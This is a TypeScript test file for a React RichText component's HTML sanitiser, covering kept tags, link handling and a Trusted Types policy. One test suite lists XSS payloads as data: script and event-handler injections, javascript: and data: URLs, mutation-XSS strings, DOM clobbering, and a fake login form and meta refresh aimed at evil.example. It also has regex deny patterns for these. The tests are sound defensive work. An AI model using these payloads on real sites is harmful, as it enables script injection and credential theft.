import { fireEvent, screen } from "@testing-library/react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { renderUi } from "../../private/testing.tsx";
import { NavigationProvider } from "../navigation/NavigationProvider.tsx";
import { RichText } from "./RichText.tsx";
import { wordsOf } from "../../words/english.testing.ts";

const shown = (html: string) => renderUi(<RichText html={html} />).container;

describe("RichText", () => {
  it("keeps headings, emphasis, lists and tables", () => {
    const container = shown(
      '<h2>Rules</h2><p>From <strong>10</strong></p><ol start="3"><li>One</li></ol><table><tr><th scope="col">Stake</th></tr></table>',
    );
    expect(screen.getByRole("heading", { name: "Rules" })).toBeInTheDocument();
    expect(
      screen.getByRole("columnheader", { name: "Stake" }),
    ).toBeInTheDocument();
    expect(container.querySelector("ol")).toHaveAttribute("start", "3");
    expect(container.querySelector("strong")).toHaveTextContent("10");
  });

  it.each([
    ...["p", "br", "hr", "div", "span", "blockquote", "pre", "code"],
    ...["h1", "h2", "h3", "h4", "h5", "h6"],
    ...["strong", "b", "em", "i", "u", "s", "del", "mark"],
    ...["small", "sub", "sup", "ul", "ol", "li", "dl", "dt", "dd"],
    ...["a", "img", "figure", "figcaption"],
  ])("keeps <%s>", (tag) => {
    const whole = ["br", "hr", "img"].includes(tag)
      ? `<${tag}>`
      : `<${tag}>x</${tag}>`;
    expect(shown(whole).querySelector(tag)).not.toBeNull();
  });

  it("keeps every part of a table", () => {
    const container = shown(
      "<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>",
    );
    for (const part of ["caption", "thead", "tbody", "tfoot", "tr", "th", "td"])
      expect(container.querySelector(part)).not.toBeNull();
  });

  it.each(["style", "form", "input", "button", "svg", "math", "video", "base"])(
    "removes <%s>",
    (tag) => {
      expect(shown(`<p>kept</p><${tag}>x</${tag}>`).querySelector(tag)).toBe(
        null,
      );
    },
  );

  it("opens other sites in a new tab with noopener, and links within this site in the same tab", () => {
    shown(
      '<a href="https://elsewhere.example/a">Out</a><a href="/promotions">In</a><a href="#rules">Down</a>',
    );
    expect(screen.getByRole("link", { name: "Out" })).toHaveAttribute(
      "target",
      "_blank",
    );
    expect(screen.getByRole("link", { name: "Out" })).toHaveAttribute(
      "rel",
      expect.stringContaining("noopener"),
    );
    expect(screen.getByRole("link", { name: "In" })).not.toHaveAttribute(
      "target",
    );
    expect(screen.getByRole("link", { name: "Down" })).not.toHaveAttribute(
      "target",
    );
  });

  it("shows a message in the page's language when a text is too large", () => {
    const container = shown("<b>x</b>".repeat(10_000));
    expect(container).toHaveTextContent(wordsOf("ui.richText.tooLong"));
    expect(container.querySelector("b, [lang]")).toBeNull();
  });

  it("loads images lazily, removes their handlers and leaves alt empty when none is given", () => {
    const container = shown(
      '<img src="https://images.example/a.png" onerror="hack()">',
    );
    const image = container.querySelector("img");
    expect(image).toHaveAttribute("alt", "");
    expect(image).toHaveAttribute("loading", "lazy");
    expect(image).not.toHaveAttribute("onerror");
  });
});

describe("the links of a RichText", () => {
  const press = (name: string, init = {}) => {
    const navigate = vi.fn();
    renderUi(
      <NavigationProvider navigate={navigate}>
        <RichText html='<p><a href="/help#limits"><b>Help</b></a> <a href="https://rules.example/">Rules</a> Text</p>' />
      </NavigationProvider>,
    );
    // jsdom does not load pages.
    addEventListener("click", (event) => event.preventDefault(), {
      once: true,
    });
    fireEvent.click(screen.getByText(name), init);
    return navigate.mock.calls;
  };

  it("navigate within the site without a page load", () => {
    expect(press("Help")).toEqual([["/help#limits"]]);
  });

  it.each([
    ["Rules", {}],
    ["Help", { ctrlKey: true }],
    ["Text", {}],
  ])("leave %s with %o to the browser", (name, init) => {
    expect(press(name, init)).toEqual([]);
  });
});

describe("RichText with hostile markup", () => {
  const hack = vi.fn();
  beforeEach(() => {
    hack.mockReset();
    vi.stubGlobal("hack", hack);
    return () => vi.unstubAllGlobals();
  });

  it.each([
    ["script", "<script>hack()</script>"],
    ["handler", '<img src=x onerror="hack()">'],
    [
      "handler on any element",
      '<p onpointerenter="hack()" onclick="hack()">x</p>',
    ],
    ["svg", '<svg onload="hack()"><script>hack()</script></svg>'],
    [
      "svg link",
      '<svg><a xlink:href="javascript:hack()"><text>x</text></a></svg>',
    ],
    ["math", '<math><mtext><table><mglyph><style><img src=x onerror="hack()">'],
    ["javascript address", '<a href="javascript:hack()">x</a>'],
    [
      "javascript address in disguise",
      '<a href=" java&#10;script:hack()">x</a>',
    ],
    ["data address", '<a href="data:text/html,<script>hack()</script>">x</a>'],
    ["vbscript address", '<a href="vbscript:hack()">x</a>'],
    ["address without scheme", '<a href="//evil.example">x</a>'],
    ["address with a backslash", '<a href="/\\evil.example">x</a>'],
    ["frame", '<iframe src="https://evil.example"></iframe>'],
    [
      "frame with document",
      '<iframe srcdoc="<script>hack()</script>"></iframe>',
    ],
    ["object", '<object data="x.swf"></object><embed src="x.swf">'],
    [
      "form",
      '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    ],
    ["style element", "<style>body{display:none}</style>"],
    ["style attribute", '<p style="position:fixed;inset:0">x</p>'],
    ["borrowed class", '<p class="overlay">x</p>'],
    ["clobbering", '<a id="location" name="location" href="/x">x</a>'],
    ["base", '<base href="https://evil.example">'],
    [
      "meta",
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
    ["template", "<template><script>hack()</script></template>"],
    ["mutation", '<noscript><p title="</noscript><img src=x onerror=hack()>">'],
    ["comment", "<!--><img src=x onerror=hack()>-->"],
    ["custom element", "<x-evil onclick=hack()>x</x-evil>"],
    [
      "media",
      '<video><source onerror="hack()"></video><audio src=x onerror="hack()"></audio>',
    ],
  ])("removes: %s", (_name, html) => {
    const container = shown(html);
    const elements = [...container.querySelectorAll("*")];
    const names = elements.map((element) => element.localName);
    expect(names).not.toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^(script|svg|math|iframe|object|embed|form|input|button|style|base|meta|template|video|audio|x-evil)$/,
        ),
      ]),
    );
    for (const element of elements) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$|^action$/);
        expect(value).not.toMatch(/script:|data:text|evil\.example/i);
      }
      if (element !== container.firstElementChild)
        expect(element).not.toHaveAttribute("class");
    }
    expect(hack).not.toHaveBeenCalled();
  });
});

describe("RichText under Trusted Types", () => {
  const dirty = "<p onclick='x()'>Hello</p>";

  // Like a browser's: a policy returns what its rules return.
  const createPolicy = vi.fn((_name: string, rules: object) => rules);
  beforeEach(() => {
    createPolicy.mockClear();
    vi.stubGlobal("trustedTypes", { createPolicy });
    vi.resetModules();
    return () => vi.unstubAllGlobals();
  });
  const names = () => createPolicy.mock.calls.map(([name]) => name);

  it("creates a single policy and reuses it for every sanitised text", async () => {
    const { sanitise } = await import("./sanitise.ts");
    expect(String(sanitise(dirty))).toBe("<p>Hello</p>");
    expect(String(sanitise("<b>again</b>"))).toBe("<b>again</b>");
    expect(names()).toEqual(["portal-rich-text"]);
  });

  it("rejects everything until the sanitiser is loaded, and sanitises HTML afterwards", async () => {
    const { makeRichTextPolicy } = await import("./policy.ts");
    const policy = makeRichTextPolicy();
    expect(names()).toEqual(["portal-rich-text"]);
    expect(() => policy?.createHTML(dirty)).toThrow(TypeError);
    expect(() => policy?.createScriptURL()).toThrow(TypeError);
    const { sanitise } = await import("./sanitise.ts");
    expect(String(sanitise(dirty))).toBe("<p>Hello</p>");
    expect(String(policy?.createHTML(dirty))).toBe("<p>Hello</p>");
    expect(names()).toEqual(["portal-rich-text"]);
  });
});
